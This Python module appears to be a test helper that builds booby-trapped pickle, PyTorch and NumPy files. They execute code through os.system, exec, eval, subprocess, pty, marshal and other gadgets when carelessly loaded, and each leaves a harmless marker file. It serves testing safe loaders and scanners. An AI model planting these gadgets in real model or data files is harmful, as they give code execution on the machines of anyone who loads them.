"""Files that execute something where somebody loads them without care: each leaves a mark by which that shows."""

import code
import functools
import importlib
import io
import marshal
import os
import pickle
import pty
import subprocess
import tarfile
import time
import timeit
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

MAGIC = 0x1950A86A20F9469CFC6C  # of torch's files before they were zip archives
PROTOCOL = 1001


class Call:
    """Pickled, it is a call: whoever unpickles it makes it. It may be what is called, or an argument, of another one."""

    def __init__(self, function: Callable, *arguments: Any, state: Any = None):
        self.function, self.arguments, self.state = function, arguments, state

    def __reduce__(self):
        return (self.function, self.arguments) if self.state is None else (self.function, self.arguments, self.state)

    def __call__(self):
        raise AssertionError("only pickle calls it")


def pickles(mark: Path) -> dict[str, bytes]:
    """Name -> a pickle that makes the file `mark` where it is loaded."""
    command, source = f"touch {mark}", f"open({str(mark)!r}, 'w').close()"
    by_hand = {
        "os.system": f"cos\nsystem\n(V{command}\ntR.",
        "posix.system": f"cposix\nsystem\n(V{command}\ntR.",
        "opcode INST": f"(V{command}\niposix\nsystem\n.",
        "opcode OBJ": f"(cposix\nsystem\nV{command}\no.",
        "copyreg": f"\x80\x02ccopyreg\nadd_extension\n(Vposix\nVsystem\nK\xf0tR0\x82\xf0(V{command}\ntR.",
    }
    return {name: text.encode("latin-1") for name, text in by_hand.items()} | {
        name: pickle.dumps(call, protocol=4 if name == "opcode STACK_GLOBAL" else 2)
        for name, call in _calls(mark, command, source).items()
    }


def _calls(mark: Path, command: str, source: str) -> dict[str, Call]:
    module = Call(importlib.import_module, "os")
    body = marshal.dumps(compile(source, "stranger", "exec"))
    function = Call(getattr, Call(importlib.import_module, "types"), "FunctionType")
    interpreter = Call(code.InteractiveInterpreter)
    return {
        "opcode STACK_GLOBAL": Call(os.system, command),
        "builtins.exec": Call(exec, source),
        "builtins.eval": Call(eval, source),
        "subprocess.Popen": Call(subprocess.Popen, ["touch", str(mark)]),
        "pty.spawn": Call(pty.spawn, ["touch", str(mark)]),
        "nested reduce": Call(Call(getattr, module, "system"), command),
        "__setstate__": Call(Call(functools.partial, print, state=(os.system, (command,), {}, {}))),
        "code of a function, as dill": Call(Call(function, Call(marshal.loads, body), {})),
        "timeit": Call(timeit.timeit, source, "pass", time.perf_counter, 1),
        "an interpreter": Call(Call(getattr, interpreter, "runsource"), source),
        "a pickle in a pickle": Call(pickle.loads, pickle.dumps(Call(os.system, command))),
        "a tensor of a type": Call(torch._tensor._rebuild_from_type_v2, os.system, int, (command,), None),
    }


def files(mark: Path) -> dict[str, bytes]:
    """Name -> a file for torch.load: every pickle in torch's own archive, and one in each older or odd container."""
    known = pickles(mark)
    found = {name: archive(content) for name, content in known.items()}
    evil = known["posix.system"]
    body = {"step": 3, "models": [torch.zeros(2), {"deep": Call(os.system, f"touch {mark}")}]}
    whole = io.BytesIO()
    torch.save(body, whole)
    return found | {
        "a pickle alone": evil,
        "torch before its archives": b"".join(pickle.dumps(one) for one in (MAGIC, PROTOCOL, {})) + evil,
        "torch's tar": tar(evil),
        "inside a state": whole.getvalue(),
    }


def archive(content: bytes) -> bytes:
    """A pickle as torch.save packs it."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as packed:
        for name, inner in (("data.pkl", content), ("byteorder", b"little"), ("version", b"3\n")):
            packed.writestr(f"archive/{name}", inner)
    return file.getvalue()


def tar(content: bytes) -> bytes:
    """The format of the oldest files that torch.load knows."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as packed:
        for name, inner in (
            ("storages", pickle.dumps(0) + pickle.dumps([])),
            ("tensors", pickle.dumps(0)),
            ("pickle", content),
        ):
            head = tarfile.TarInfo(name)
            head.size = len(inner)
            packed.addfile(head, io.BytesIO(inner))
    return file.getvalue()


def arrays(mark: Path) -> dict[str, bytes]:
    """Name -> a file for numpy.load that makes `mark` where pickles are allowed."""
    evil = np.empty(1, object)
    evil[0] = Call(os.system, f"touch {mark}")
    packed, alone = io.BytesIO(), io.BytesIO()
    np.savez(packed, key=evil, names=np.array(["key"]))
    np.save(alone, evil)
    return {"objects in npz": packed.getvalue(), "objects in npy": alone.getvalue(), "a pickle": pickle.dumps(evil[0])}
